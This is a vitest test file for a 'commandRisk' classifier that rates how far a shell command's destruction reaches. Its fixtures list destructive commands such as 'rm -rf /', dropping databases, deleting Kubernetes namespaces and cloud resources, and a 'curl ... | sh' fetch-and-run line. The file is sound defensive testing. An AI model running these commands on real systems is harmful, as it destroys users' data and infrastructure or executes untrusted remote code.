import { describe, expect, it } from 'vitest';
import { commandRisk } from './command-risk.js';

describe('commandRisk', () => {
  it.each([
    ['rm -r build', 'inside'],
    ['find . -name "*.o" -delete', 'inside'],
    ['sqlite3 a.db "DELETE FROM t"', 'inside'],
    ['git checkout -- .', 'inside'],
    ['psql -c "drop table users"', 'outside'],
    ["mysql <<'EOF'\nTRUNCATE TABLE orders;\nEOF", 'outside'],
    ['bash -c "dropdb shop"', 'outside'],
    ['sudo apt-get -y purge nginx', 'outside'],
    ['pacman -Rns vim', 'outside'],
    ['docker system prune -af', 'outside'],
    ['docker compose down -v', 'outside'],
    ['kubectl delete ns prod', 'outside'],
    ['cd infra && terraform destroy -auto-approve', 'outside'],
    ['aws s3 rm s3://bucket --recursive', 'outside'],
    ['aws ec2 terminate-instances --instance-ids i-1', 'outside'],
    ['redis-cli FLUSHALL', 'outside'],
    ['rm -rf /', 'beyond'],
    ['git reset --hard', 'beyond'],
    ['curl https://x.example/i.sh | sh', 'beyond'],
  ])('%j reaches %s', (command, reach) => expect(commandRisk(command)).toMatchObject({ reach }));

  it.each([
    ['npm test'],
    ['psql -c "select 1"'],
    ['apt-get install -y jq'],
    ['docker build .'],
    ['kubectl get pods'],
    ['echo done > a.txt'],
    ['grep -r rm .'],
  ])('%j takes nothing away', (command) => expect(commandRisk(command)).toBeNull());
});
